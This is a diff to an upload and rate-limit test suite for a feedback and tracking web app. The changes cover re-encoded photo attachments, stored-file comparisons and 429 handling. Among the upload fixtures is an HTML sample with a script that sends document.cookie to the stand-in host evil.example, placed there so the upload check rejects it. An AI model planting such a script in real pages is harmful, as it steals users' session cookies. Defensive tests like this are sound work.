@@ -11,7 +11,7 @@ import path from 'node:path';
 import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
 import { attachments, centers, items, usedChallenges } from '../../db/schema';
 import { getConfig } from '~/config.server';
-import { MAX_ATTACHMENT_BYTES } from '~/domain/attachments';
+import { MAX_ATTACHMENT_BYTES, sniffAttachmentType } from '~/domain/attachments';
 import { CHALLENGE_TTL_MS, createChallenge } from '~/domain/challenge';
 import { ADDRESS_FAILURES_BEFORE_QUESTION, LOOKUP_WINDOW_MS } from '~/domain/lookup-guard';
 import { generateTrackingCode } from '~/domain/tracking-code';
@@ -120,7 +120,11 @@ function unusedCode(): string {
 
 // Real file signatures: what the upload check looks at.
 const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
-const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0'), Buffer.alloc(64, 7), Buffer.from([0xff, 0xd9])]);
+/** A real 2×2 JPEG: photos are decoded and re-encoded before they are stored (app/services/images.server.ts). */
+const JPEG = Buffer.from(
+  '/9j/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAACAAIDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAP/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAAAP/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AJAA/9k=',
+  'base64',
+);
 const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
 const HTML = Buffer.from('<!doctype html><html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>');
 const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126), Buffer.from('PE\0\0'), Buffer.alloc(64)]);
@@ -312,7 +316,7 @@ describe('a submission with a challenge that does not hold', () => {
 describe('many submissions from one address', () => {
   beforeEach(() => limits.feedbackPosts.reset());
 
-  it('are refused with 429 and Retry-After after the limit, keeping the typed text; another address is not affected', async () => {
+  it('are refused with 429 and Retry-After after the limit, before the body is read; another address is not affected', async () => {
     const IP = '203.0.113.7';
     const limit = 20; // limits.feedbackPosts
     // Valid or not, every post counts: a flood of broken forms is a flood too.
@@ -328,7 +332,7 @@ describe('many submissions from one address', () => {
     expect(retryAfter).toBeGreaterThan(0);
     expect(retryAfter).toBeLessThanOrEqual(10 * 60);
     expect(data.errors).toEqual({ form: 'errors.rate_limited' });
-    expect(data.values).toEqual(typed(form));
+    expect(data.values).toEqual({}); // refused before the body is read; the browser keeps what was typed
     expect(data.retryAfterMinutes).toBe(Math.ceil(retryAfter / 60));
     expect(fa.errors.rate_limited).toMatch(/[\u0600-\u06FF]/);
     expect(stored()).toEqual(before);
@@ -360,17 +364,26 @@ describe('a submission with attachments', () => {
     list = page.item.attachments;
   });
 
-  it('stores each file by its content, under a random name outside the web root, with the bytes unchanged', () => {
+  /** The bytes kept of the i-th file: the PDF as sent, photos re-encoded without metadata (tests/security/photo-metadata.test.ts). */
+  const storedBytes = (i: number) => {
+    const rows = db().select().from(attachments).where(eq(attachments.itemId, itemByCode(code).id)).orderBy(attachments.id).all();
+    return readFileSync(path.join(attachmentFolder(), rows[i]!.storedName));
+  };
+
+  it('stores each file by its content, under a random name outside the web root, a PDF unchanged and photos re-encoded', () => {
     const rows = db().select().from(attachments).where(eq(attachments.itemId, itemByCode(code).id)).all();
-    expect(rows.map((r) => [r.originalName, r.mimeType, r.size])).toEqual(files.map((f) => [f.shownAs, f.storedAs, f.bytes.length]));
+    expect(rows.map((r) => [r.originalName, r.mimeType])).toEqual(files.map((f) => [f.shownAs, f.storedAs]));
     rows.forEach((row, i) => {
       expect(row.storedName).toMatch(/^[0-9a-f]{32}\.(png|jpg|pdf)$/);
-      expect(readFileSync(path.join(attachmentFolder(), row.storedName)).equals(files[i]!.bytes)).toBe(true);
+      const kept = readFileSync(path.join(attachmentFolder(), row.storedName));
+      expect(row.size).toBe(kept.length);
+      if (row.mimeType === 'application/pdf') expect(kept.equals(files[i]!.bytes)).toBe(true);
+      else expect(sniffAttachmentType(kept)).toBe(row.mimeType);
     });
   });
 
   it('lists them on the tracking page with name, type and size', () => {
-    expect(list.map((a) => [a.originalName, a.mimeType, a.size])).toEqual(files.map((f) => [f.shownAs, f.storedAs, f.bytes.length]));
+    expect(list.map((a) => [a.originalName, a.mimeType, a.size])).toEqual(files.map((f, i) => [f.shownAs, f.storedAs, storedBytes(i).length]));
     expect(JSON.stringify(list)).not.toMatch(/[0-9a-f]{32}/); // the stored name is nobody's business
   });
 
@@ -379,7 +392,7 @@ describe('a submission with attachments', () => {
       const response = await run(() => trackAttachment.loader(routeArgs(getRequest(`/track/${code}/attachments/${attachment.id}`, citizen), { code, id: String(attachment.id) })));
       expect(response.status).toBe(200);
       expect(response.headers.get('Content-Type')).toBe(files[i]!.storedAs);
-      expect(Buffer.from(await response.arrayBuffer()).equals(files[i]!.bytes)).toBe(true);
+      expect(Buffer.from(await response.arrayBuffer()).equals(storedBytes(i))).toBe(true);
       const disposition = response.headers.get('Content-Disposition')!;
       expect(disposition).toMatch(/^attachment;/);
       expect(disposition).toContain(`filename*=UTF-8''${encodeURIComponent(files[i]!.shownAs)}`);
@@ -414,7 +427,7 @@ describe('a submission with attachments', () => {
     for (const username of [`officer.${PROVINCE}`, `manager.${PROVINCE}`, 'national']) {
       const response = await staffDownload(await signInAs(username));
       expect(response.status, username).toBe(200);
-      expect(Buffer.from(await response.arrayBuffer()).equals(files[0]!.bytes)).toBe(true);
+      expect(Buffer.from(await response.arrayBuffer()).equals(storedBytes(0))).toBe(true);
       expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
     }
     for (const username of [`officer.${OTHER_PROVINCE}`, `manager.${OTHER_PROVINCE}`, 'agent', 'admin']) {
